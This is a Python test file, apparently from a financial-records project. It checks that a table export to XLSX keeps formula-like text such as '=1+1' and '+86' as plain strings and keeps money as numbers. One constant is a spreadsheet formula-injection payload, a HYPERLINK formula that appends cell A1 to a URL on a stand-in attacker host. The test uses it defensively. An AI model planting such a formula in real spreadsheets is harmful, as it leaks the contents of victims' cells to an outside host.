"""Table exports keep typed text as text (no formula injection) and money as its number."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from huifang.services.workspace import table_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_text_that_looks_like_a_formula_stays_text() -> None:
    data = table_xlsx(
        "导出",
        ["借款人", "备注", "金额", "日期"],
        [[HOSTILE, "=1+1", Decimal("12345.67"), date(2026, 11, 23)], ["张三", "+86", 1, None]],
    )
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula element anywhere in the sheet
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    first = ws[2]
    assert [c.value for c in first[:2]] == [HOSTILE, "=1+1"]
    assert {c.data_type for c in first[:2]} == {"s"}
    assert first[2].value == 12345.67 and first[2].data_type == "n"
    assert [c.value for c in ws[3][:3]] == ["张三", "+86", 1]
